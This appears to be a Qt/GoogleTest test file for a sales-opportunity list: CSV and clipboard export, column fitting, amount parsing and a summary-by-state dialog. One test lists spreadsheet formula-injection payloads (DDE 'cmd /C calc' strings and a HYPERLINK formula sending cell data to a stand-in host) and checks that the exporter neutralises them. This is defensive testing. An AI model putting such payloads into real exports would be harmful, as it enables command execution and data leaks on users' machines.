// The list's actions: the CSV and the copy, fitting the columns, each view's layout, and the
// summary by state with its dialog.
#include "basedeprueba.h"
#include "respuestas.h"

#include "servicios/accioneslista.h"
#include "servicios/ajustelista.h"
#include "servicios/entornosql.h"
#include "servicios/funcionessql.h"
#include "servicios/menulista.h"
#include "servicios/resumenestados.h"

#include "controles/listview.h"
#include "runtime/colors.h"
#include "runtime/settings.h"

#include <QAbstractButton>
#include <QApplication>
#include <QClipboard>
#include <QDialog>
#include <QFile>
#include <QFileDialog>
#include <QHeaderView>
#include <QLabel>
#include <QMenu>
#include <QTableWidget>
#include <QTemporaryDir>
#include <QTest>

#include <gtest/gtest.h>

#include <map>

namespace {

using Servicios::ResumenEstados;
using Servicios::AccionesLista::textoCsv;
using Servicios::AccionesLista::textoTabulado;

// Three opportunities whose texts need quoting, shown sorted by amount text, descending.
void llenaOportunidades(Kit::ListView &lista)
{
    lista.replaceContents({"Folio", "Descripción", "Monto"}, {{QString(), {"F-1", "Uno; dos", "10.00"}},
                                                              {QString(), {"F-2", "Dice \"sí\"", "30.00"}},
                                                              {QString(), {"F-3", "Línea\nnueva\tcon tab", "20.00"}}});
    lista.setSortKey(2);
    lista.setSortOrder(Qt::DescendingOrder);
    lista.setSorted(true);
}

// Rows in the order shown, columns as shown (moved, without hidden ones), texts quoted where
// the format needs it.
TEST(AccionesLista, theCsvAndTheCopyFollowTheShownOrderAndQuoteWhatNeedsIt)
{
    Kit::ListView lista;
    llenaOportunidades(lista);

    EXPECT_EQ(textoCsv(lista), "Folio;Descripción;Monto\r\n"
                               "F-2;\"Dice \"\"sí\"\"\";30.00\r\n"
                               "F-3;\"Línea\nnueva\tcon tab\";20.00\r\n"
                               "F-1;\"Uno; dos\";10.00\r\n");
    EXPECT_EQ(textoTabulado(lista), "Folio\tDescripción\tMonto\n"
                                    "F-2\tDice \"sí\"\t30.00\n"
                                    "F-3\tLínea nueva con tab\t20.00\n"
                                    "F-1\tUno; dos\t10.00\n");

    lista.header()->moveSection(2, 0); // Monto first
    lista.header()->hideSection(1);    // no Descripción
    EXPECT_EQ(textoCsv(lista), "Monto;Folio\r\n30.00;F-2\r\n20.00;F-3\r\n10.00;F-1\r\n");
}

// Cells a spreadsheet would run as formulas go out as text; numbers stay numbers.
TEST(AccionesLista, theCsvCarriesNoFormulas)
{
    const std::vector<std::pair<QString, QString>> casos = {
        {"=HYPERLINK(\"http://x.example/?d=\"&B3;\"Ver\")",
         "\"'=HYPERLINK(\"\"http://x.example/?d=\"\"&B3;\"\"Ver\"\")\""},
        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
        {"\t=1+1", "'\t=1+1"},
        {"\r=1+1", "\"'\r=1+1\""},
        {"-1234.50", "-1234.50"},
        {"-$1,234.50", "-$1,234.50"},
        {"-$1,2+cmd|' /C calc'!A0", "'-$1,2+cmd|' /C calc'!A0"},
        {"+7", "+7"},
        {"-", "'-"},
        {"a=b", "a=b"}};
    for (const auto &[valor, esperado] : casos) {
        SCOPED_TRACE(valor.toStdString());
        Kit::ListView lista;
        lista.replaceContents({"=Folio"}, {{QString(), {valor}}});
        EXPECT_EQ(textoCsv(lista), QStringLiteral("'=Folio\r\n") + esperado + QStringLiteral("\r\n"));
    }
}

// The list shows a huge cell cut; what goes out is the whole text.
TEST(AccionesLista, theCsvAndTheCopyTakeACellLongerThanTheListShowsWhole)
{
    const QString larga = QString(Kit::ListModel::shownLength, u'x') + "fin";
    Kit::ListView lista;
    lista.replaceContents({"Nota"}, {{QString(), {larga}}});
    EXPECT_EQ(textoCsv(lista), "Nota\r\n" + larga + "\r\n");
    EXPECT_EQ(textoTabulado(lista), "Nota\n" + larga + "\n");
}

const QColor Rojo(200, 0, 0);
const QColor Azul(0, 0, 200);
const QColor Negro(0, 0, 0);

// Rows "state|amount", and "|R" or "|A" after them for a red or blue look.
ResumenEstados resume(const QStringList &filas, const std::optional<QStringList> &orden = std::nullopt,
                      const QStringList &encabezados = {"Folio", "Estado", "Monto"})
{
    std::vector<Servicios::FilaParaResumen> leidas;
    for (const QString &fila : filas) {
        const QStringList celdas = fila.split(QLatin1Char('|'));
        std::optional<QColor> color;
        if (celdas.size() > 2)
            color = celdas[2] == QLatin1String("R") ? Rojo : Azul;
        leidas.push_back({{"OP", celdas[0], celdas.value(1)}, color});
    }
    return Servicios::resumePorEstado(encabezados, leidas, Negro, orden);
}

// "State: count, amount" a state in the summary's order (the amount only when there are
// amounts; " rojo" or " azul" after the state for its colour), then the totals.
QString comoTexto(const ResumenEstados &resumen)
{
    QStringList estados;
    for (const Servicios::EstadoResumido &estado : resumen.estados) {
        const QString color = estado.color == Negro  ? ""
                              : estado.color == Rojo ? " rojo"
                              : estado.color == Azul ? " azul"
                                                     : " ?";
        estados << QStringLiteral("%1%2: %3").arg(estado.estado, color).arg(estado.cantidad)
                       + (resumen.conMontos ? QStringLiteral(", %1").arg(estado.monto, 0, 'f', 2) : QString());
    }
    QString total = QStringLiteral("; total %1").arg(resumen.cantidadTotal());
    total += resumen.conMontos ? QStringLiteral(", %1").arg(resumen.montoTotal(), 0, 'f', 2) : ", sin montos";
    if (resumen.montosSinSumar > 0)
        total += QStringLiteral(", %1 sin sumar").arg(resumen.montosSinSumar);
    return estados.join(" | ") + total;
}

TEST(ResumenEstados, readsAmountsAsAListWritesThem)
{
    // "text=amount"
    const QStringList montos = {
        "1234.5=1234.5",  "250000.00=250000",        "1,234.50=1234.5",   "$1,234,567.89=1234567.89", " $ 980 =980",
        "MXN 2,000=2000", "1.234.567,89=1234567.89", "1 234,50 €=1234.5", "1\u00A0234,50=1234.5",     "12,5=12.5",
        "1,250=1250",     "-$1,200.00=-1200",        "$-1,200.00=-1200",  "(1,200.00)=-1200"};
    for (const QString &monto : montos) {
        const std::optional<double> leido = Servicios::leeMonto(monto.section(QLatin1Char('='), 0, 0));
        ASSERT_TRUE(leido.has_value()) << monto.toStdString();
        EXPECT_DOUBLE_EQ(*leido, monto.section(QLatin1Char('='), 1).toDouble()) << monto.toStdString();
    }
    for (const QString texto : {"", "N/D", "$", "12,34,567", "1,234.567,89", "1.2.3", "--5", "5 pesos", "(-5)"})
        EXPECT_FALSE(Servicios::leeMonto(texto).has_value()) << texto.toStdString();
}

// The states an opportunity goes through come in that order; the ones the state table does
// not know, alphabetically (in Spanish: lower case beside upper case, É beside E, ñ after n);
// "(Sin estado)" last. Without the order (it could not be read), most opportunities first.
TEST(ResumenEstados, groupsByStateInTheOrderOfTheStagesAddingTheAmountsThatAreNumbers)
{
    const QStringList variados = {"Ganada", "Éxito", "Cierre", "calificada", "Ñandú",
                                  "Oferta", "Nube",  "Zeta",   "Zeta",       ""};
    const QStringList encabezados = {"Folio", "Estado", "Monto"};
    const struct
    {
        QStringList filas;
        QString resumen;
        QStringList encabezados = {"Folio", "Estado", "Monto"};
        std::optional<QStringList> orden = std::nullopt;
    } casos[] = {
        // Separators, signs and blanks around the state do not split a state.
        {{"Negociación|250000.00", "Propuesta enviada|$1,200.50", "Negociación|$ 49,999.50", " Negociación |10,000.50",
          "Propuesta enviada|800"},
         "Negociación: 3, 310000.00 | Propuesta enviada: 2, 2000.50; total 5, 312000.50"},
        // An amount that is no number is counted, not added.
        {{"Calificada|1,000.00", "Calificada|por definir", "Calificada|", "En espera|500"},
         "Calificada: 3, 1000.00 | En espera: 1, 500.00; total 4, 1500.00, 2 sin sumar"},
        // A column of words, or none headed as amounts: only counts.
        {{"Calificada|alto", "Calificada|bajo", "En espera|10"}, "Calificada: 2 | En espera: 1; total 3, sin montos"},
        {{"Calificada|1", "Calificada|2", "En espera|10"},
         "Calificada: 2 | En espera: 1; total 3, sin montos",
         {"Folio", "Estado", "Prioridad"}},
        // Headers are recognised whatever their letter case, accents and blanks.
        {{"Calificada|7.50"}, "Calificada: 1, 7.50; total 1, 7.50", {"Folio", "ESTÁDO ", "monto"}},
        // Each state takes the colour of most of its rows; on a tie, the first colour met.
        {{"Mayoría roja||A", "Mayoría roja||R", "Mayoría roja||R", "Empate||A", "Empate||R", "Sin aspecto",
          "Mayoría sin aspecto", "Mayoría sin aspecto||R", "Mayoría sin aspecto"},
         "Mayoría roja rojo: 3 | Mayoría sin aspecto: 3 | Empate azul: 2 | Sin aspecto: 1; total 9, sin montos"},
        {variados,
         "Zeta: 2 | Oferta: 1 | calificada: 1 | Cierre: 1 | Éxito: 1 | Ganada: 1 | Nube: 1 | Ñandú: 1"
         " | (Sin estado): 1; total 10, sin montos",
         encabezados, QStringList{"Zeta", "Oferta", "Calificada", "Perdida"}},
        {variados,
         "calificada: 1 | Cierre: 1 | Éxito: 1 | Ganada: 1 | Nube: 1 | Ñandú: 1 | Oferta: 1 | Zeta: 2"
         " | (Sin estado): 1; total 10, sin montos",
         encabezados, QStringList{}},
        {variados, // without the order
         "Zeta: 2 | (Sin estado): 1 | calificada: 1 | Cierre: 1 | Éxito: 1 | Ganada: 1 | Nube: 1 | Ñandú: 1"
         " | Oferta: 1; total 10, sin montos"},
        {{"Calificada|1"}, "; total 0, sin montos", {"Folio", "Estatus", "Monto"}}, // no state column
    };
    for (const auto &caso : casos) {
        SCOPED_TRACE(caso.resumen.toStdString());
        EXPECT_EQ(comoTexto(resume(caso.filas, caso.orden, caso.encabezados)), caso.resumen);
    }
    EXPECT_FALSE(Servicios::tieneColumnaEstado({"Folio", "Estatus", "Monto"}));
}

// Each column takes the width of its header and of the texts of the first rows, those beyond
// unmeasured; in a window too narrow for them all, the text columns give up width, never below
// a few characters, while the folio, the figures and the dates keep theirs.
TEST(AjusteLista, fitsEachColumnToItsHeaderAndFirstRowsShrinkingTextOnesToTheListsWidth)
{
    Kit::ListView lista;
    lista.resize(560, 200);
    lista.show();
    const QString largo = "Migración a la nube — Distribuidora La Paz, segunda etapa";
    const QString lejano(30, 'n'); // in the first row not measured
    std::vector<Kit::ListRow> filas(Servicios::AjusteLista::FilasMedidas + 1,
                                    {QString(), {"OP-2026-000001", largo, largo, "04/03/2026", "$999,477,930.17"}});
    filas.front().texts[0] = "OP-1";
    filas.back().texts[0] = lejano;
    lista.replaceContents({"Folio", "Descripción", "Organización", "Cierre estimado", "Monto"}, std::move(filas));

    Servicios::AjusteLista().AjustaAlAncho(lista);

    const QHeaderView &encabezado = *lista.header();
    const QFontMetrics medida(lista.font());
    EXPECT_LE(encabezado.length(), lista.viewport()->width());
    EXPECT_GE(encabezado.sectionSize(0), medida.horizontalAdvance("OP-2026-000001"));
    EXPECT_LT(encabezado.sectionSize(0), medida.horizontalAdvance(lejano));
    EXPECT_GE(encabezado.sectionSize(3), QFontMetrics(encabezado.font()).horizontalAdvance("Cierre estimado"));
    for (const int columna : {1, 2}) {
        EXPECT_LT(encabezado.sectionSize(columna), medida.horizontalAdvance(largo)) << columna;
        EXPECT_GE(encabezado.sectionSize(columna), medida.averageCharWidth() * 10) << columna;
    }
}

// The board's view of the opportunities, coloured by state as the board colours it; every
// amount `montoUnico` when one is given.
constexpr qint32 ColorNegociacion = 0x0060D0;
constexpr qint32 ColorProspeccion = 0x808080;

void llenaComoElTablero(Kit::ListView &lista, const QString &montoUnico = QString())
{
    const std::map<QString, Kit::ListView::RowLook> aspectos = {{"Negociación", {ColorNegociacion, true}},
                                                                {"Propuesta enviada", {0xC06000, false}},
                                                                {"Prospección", {ColorProspeccion, false}}};
    std::vector<Kit::ListRow> filas;
    std::vector<std::optional<Kit::ListView::RowLook>> looks;
    for (const QString fila :
         {"Negociación|250000.00", "Propuesta enviada|1200.50", "Negociación|49999.50", "Prospección|N/D",
          "Propuesta enviada|800.00", "Negociación|10000.50", "Prospección|5000.00"}) {
        const QStringList celdas = fila.split('|');
        filas.push_back({QString(),
                         {QStringLiteral("OP-%1").arg(filas.size() + 1), "Licencias ERP", celdas[0],
                          montoUnico.isEmpty() ? celdas[1] : montoUnico}});
        looks.push_back(aspectos.at(celdas[0]));
    }
    lista.replaceContents({"Folio", "Descripción", "Estado", "Monto"}, std::move(filas));
    lista.setRowLooks(looks);
}

// A list in a window with its menu of actions, on the session's database, whose state table
// keeps the board's states in the order of the pipeline.
class MenuDeLista : public ::testing::Test
{
protected:
    MenuDeLista()
    {
        base.ejecuta("INSERT INTO Estado_Oportunidad (Eo_Cve_Estado_Oportunidad, Eo_Descripcion) VALUES "
                     "('PRO', 'Prospección'), ('PRE', 'Propuesta enviada'), ('NEG', 'Negociación')");
        lista.setObjectName("lvOrdenes");
        lista.show();
    }

    QAction *accionResumen()
    {
        entradas.habilitaPara(&lista);
        return menu.findChild<QAction *>("accResumenEstados");
    }

    // Runs `revision` on the dialog the action opens, then closes it with Esc, as a user would.
    void revisaElDialogo(std::function<void(QDialog &)> revision)
    {
        bool cerradoConEsc = false;
        Pruebas::alAparecer("dlgResumenEstados", [&](QWidget &ventana) {
            auto &dialogo = static_cast<QDialog &>(ventana);
            revision(dialogo);
            QTest::keyClick(&dialogo, Qt::Key_Escape);
            cerradoConEsc = !dialogo.isVisible();
            if (!cerradoConEsc)
                dialogo.reject(); // so a failure does not leave the test waiting
        });
        EXPECT_TRUE(entradas.ejecuta(accionResumen(), lista));
        EXPECT_TRUE(cerradoConEsc);
    }

    static QStringList filasDeLaTabla(const QDialog &dialogo)
    {
        const auto *tabla = dialogo.findChild<QTableWidget *>("grdResumen");
        QStringList filas;
        for (int fila = -1; fila < tabla->rowCount(); ++fila) {
            QStringList celdas;
            for (int columna = 0; columna < tabla->columnCount(); ++columna)
                celdas << (fila < 0 ? tabla->horizontalHeaderItem(columna) : tabla->item(fila, columna))->text();
            filas << celdas.join(" | ");
        }
        return filas;
    }

    Pruebas::BaseDePrueba base;
    Servicios::EntornoSql entorno;
    Servicios::FuncionesSql funciones{entorno};
    Kit::ListView lista;
    QMenu menu;
    Servicios::EntradasDeLista entradas{menu};
};

TEST_F(MenuDeLista, exportingToCsvSavesTheChosenFileInUtf8WithBom)
{
    llenaOportunidades(lista);
    QTemporaryDir carpeta;
    const QString ruta = carpeta.filePath("oportunidades.csv");
    Pruebas::alAparecer("mnuAccionLista", [](QWidget &ventana) {
        auto &menu = static_cast<QMenu &>(ventana);
        menu.setActiveAction(menu.findChild<QAction *>("accExportarCsv"));
        QTest::keyClick(&menu, Qt::Key_Return);
    });
    Pruebas::alAparecer("dlgExportarCsv", [ruta](QWidget &ventana) {
        auto &dialogo = static_cast<QFileDialog &>(ventana);
        EXPECT_TRUE(dialogo.testOption(QFileDialog::DontUseNativeDialog));
        dialogo.selectFile(ruta);
        QMetaObject::invokeMethod(&dialogo, "accept");
    });

    funciones.AccionLista(lista);

    QFile archivo(ruta);
    ASSERT_TRUE(archivo.open(QIODevice::ReadOnly));
    EXPECT_EQ(archivo.readAll(), QByteArray("\xEF\xBB\xBF") + textoCsv(lista).toUtf8());
}

// A reload keeps the columns as the user left them; another view brings its own layout, or
// fits the columns when it has none; coming back brings the first one's again.
TEST_F(MenuDeLista, eachViewKeepsTheUsersLayoutOnReload)
{
    const QString consulta = QStringLiteral("SELECT Op_Folio AS \"Folio\", Op_Descripcion AS \"Descripción\","
                                            " Op_Monto AS \"Monto\" FROM Oportunidad");
    base.ejecuta("INSERT INTO Oportunidad (Op_Folio, Op_Descripcion, Op_Cve_Vendedor, Op_Monto)"
                 " VALUES ('F-1', 'Licencias', 'V1', 10), ('F-2', 'Servidores', 'V1', 20)");
    const auto muestra = [&](const QString &vista) {
        lista.setLayoutKey(QStringLiteral("Pruebas/lvOrdenes/") + vista);
        EXPECT_TRUE(funciones.LlenaLista(consulta, lista, -1));
        return lista.header()->sectionSize(1);
    };
    const int ajustada = muestra("TODOS");
    lista.header()->resizeSection(1, ajustada + 77);
    EXPECT_EQ(muestra("TODOS"), ajustada + 77); // a reload keeps what the user did
    lista.saveLayout();
    EXPECT_EQ(muestra("GANADAS"), ajustada);
    EXPECT_EQ(muestra("TODOS"), ajustada + 77);
    Runtime::removeSettings("Pruebas", "lvOrdenes");
}

// The table by state with its total, which the dialog copies; the chart, which tells its
// figures by count or by amount to a screen reader, as every control says what it is.
TEST_F(MenuDeLista, showsTheTableByStateWithItsTotalCopiesItAndChartsIt)
{
    llenaComoElTablero(lista);
    const QStringList esperadas = {"Estado | Oportunidades | Monto | % del monto",
                                   "Prospección | 2 | $5,000.00 | 1.6 %", "Propuesta enviada | 2 | $2,000.50 | 0.6 %",
                                   "Negociación | 3 | $310,000.00 | 97.8 %", "Total | 7 | $317,000.50 | 100.0 %"};
    QGuiApplication::clipboard()->clear();
    revisaElDialogo([&esperadas](QDialog &dialogo) {
        EXPECT_TRUE(dialogo.isModal());
        EXPECT_EQ(filasDeLaTabla(dialogo), esperadas);
        const auto *tabla = dialogo.findChild<QTableWidget *>("grdResumen");
        EXPECT_TRUE(tabla->item(3, 0)->font().bold());
        EXPECT_EQ(tabla->item(1, 2)->textAlignment(), int(Qt::AlignRight | Qt::AlignVCenter));
        EXPECT_EQ(tabla->item(2, 0)->data(Qt::DecorationRole).value<QColor>(), Runtime::toQColor(ColorNegociacion));
        EXPECT_EQ(tabla->item(0, 0)->data(Qt::DecorationRole).value<QColor>(), Runtime::toQColor(ColorProspeccion));
        EXPECT_TRUE(dialogo.findChild<QLabel *>("lbAviso")->text().startsWith("Una oportunidad no tiene su monto"));
        Pruebas::pulsa(dialogo, "cmdCopiar");
        EXPECT_TRUE(dialogo.isVisible());

        auto *grafica = dialogo.findChild<QWidget *>("picGrafica");
        EXPECT_TRUE(dialogo.findChild<QAbstractButton *>("optCantidad")->isChecked());
        EXPECT_EQ(grafica->accessibleDescription(), "Prospección: 2; Propuesta enviada: 2; Negociación: 3");
        dialogo.findChild<QAbstractButton *>("optMonto")->click();
        EXPECT_EQ(grafica->accessibleDescription(),
                  "Prospección: $5,000.00; Propuesta enviada: $2,000.50; Negociación: $310,000.00");
        EXPECT_TRUE(grafica->accessibleName().contains("monto"));
        for (const QWidget *control : dialogo.findChildren<QWidget *>()) {
            if (control->isVisible() && (control->focusPolicy() != Qt::NoFocus || control == grafica)) {
                EXPECT_FALSE(control->accessibleName().isEmpty()) << control->objectName().toStdString();
            }
        }
    });

    EXPECT_EQ(QGuiApplication::clipboard()->text(), esperadas.join('\n').replace(" | ", "\t") + "\n");
}

// The state table keeps its states in the order of the pipeline (the fixture's, which the
// dialog shows); keys that are all numbers say it.
TEST_F(MenuDeLista, numericStateKeysGiveTheOrderOfTheStages)
{
    base.ejecuta("DELETE FROM Estado_Oportunidad");
    base.ejecuta("INSERT INTO Estado_Oportunidad (Eo_Cve_Estado_Oportunidad, Eo_Descripcion) VALUES "
                 "('10', 'Calificada'), ('2', 'Prospección'), ('30', 'Negociación')");
    EXPECT_EQ(Servicios::ordenDeEstados(*base.conexion()), (QStringList{"Prospección", "Calificada", "Negociación"}));
}

// Amounts that are all words leave the amount chart disabled, saying why; a list without a
// state column offers the summary disabled, saying why.
TEST_F(MenuDeLista, withoutAmountsOrStatesTheChoiceIsDisabledAndSaysWhy)
{
    llenaComoElTablero(lista, "pendiente");
    revisaElDialogo([](QDialog &dialogo) {
        auto *porMonto = dialogo.findChild<QAbstractButton *>("optMonto");
        EXPECT_TRUE(!porMonto->isEnabled() && !porMonto->toolTip().isEmpty());
        EXPECT_EQ(filasDeLaTabla(dialogo).last(), "Total | 7 |  | ");
        Pruebas::pulsa(dialogo, "cmdCerrar");
        EXPECT_FALSE(dialogo.isVisible());
    });

    lista.replaceContents({"Folio", "Monto"}, {{QString(), {"OP-1", "10.00"}}});
    const QAction *resumen = accionResumen();
    EXPECT_TRUE(!resumen->isEnabled() && resumen->toolTip().contains("«Estado»") && menu.toolTipsVisible());
}

} // namespace
